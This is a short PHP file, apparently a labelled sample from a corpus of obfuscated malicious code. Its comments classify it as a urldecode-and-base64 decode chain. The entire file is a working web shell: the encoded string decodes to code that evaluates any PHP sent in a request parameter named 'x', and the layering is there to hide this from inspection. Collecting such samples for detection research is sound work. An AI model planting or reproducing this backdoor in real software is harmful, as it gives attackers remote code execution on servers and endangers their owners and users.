<?php
// Family: obfuscation/decode-chain
// Style: urldecode and base64 layers
// Trait: rawurldecode then base64_decode then eval of a short embedded payload
$s = '%61%57%59%6f%61%58%4e%7a%5a%58%51%6f%4a%46%39%53%52%56%46%56%52%56%4e%55%57%79%64%34%4a%31%30%70%4b%57%56%32%59%57%77%6f%4a%46%39%53%52%56%46%56%52%56%4e%55%57%79%64%34%4a%31%30%70%4f%77%3d%3d';
eval(base64_decode(rawurldecode($s)));
